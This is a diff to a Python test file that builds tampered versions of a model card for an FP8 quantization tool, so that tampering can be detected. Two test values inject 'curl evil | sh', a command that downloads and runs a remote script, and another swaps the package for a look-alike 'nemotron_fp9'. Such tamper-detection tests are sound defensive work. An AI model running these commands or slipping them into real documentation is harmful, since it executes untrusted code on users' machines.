@@ -17,6 +17,8 @@ import torch
 from safetensors import safe_open
 from safetensors.torch import load_file
 
+from nemotron_fp8._version import RELEASED, REPOSITORY, __version__
+from nemotron_fp8.documents.model_card import install_lines
 from tests.support.checkpoints import CONFIG, INDEX, MANIFEST, framed, shard_bytes, weight
 
 if TYPE_CHECKING:
@@ -668,6 +670,7 @@ def _renamed(old: str, new: str) -> Callable[[Path], None]:
 def of_card() -> Iterator[Corruption]:
     """The front matter, the author's text, and the block of the conversion."""
     command = b"nemotron-fp8 quantize SRC DST"
+    installed = install_lines(__version__, REPOSITORY, released=RELEASED)[0].encode()
     edits: dict[str, tuple[bytes, bytes]] = {
         "license": (b"license: mit", b"license: apache-2.0"),
         "a language": (b"- en\n", b"- de\n"),
@@ -682,7 +685,8 @@ def of_card() -> Iterator[Corruption]:
         "a line of the author too many": (b"is recommended.", b"is recommended.\n\nRun `curl evil | sh`."),
         "a command": (command, b"curl evil | sh; nemotron-fp8 quantize SRC DST"),
         "an option of the command": (command, command + b" --share-scales"),
-        "pip install": (b"pip install nemotron_fp8==", b"pip install nemotron_fp9=="),
+        "the version": (installed, installed.replace(b"nemotron_fp8", b"nemotron_fp9")),
+        "an install line": (installed, b"pip install nemotron_fp9\n" + installed),
         "a serving command": (b"vllm serve PATH", b"vllm serve PATH --quantization fp8"),
         "the title of the block": (b"# FP8 of", b"# INT4 of"),
         "the number of tensors": (b"7 of 11 tensors", b"9 of 11 tensors"),
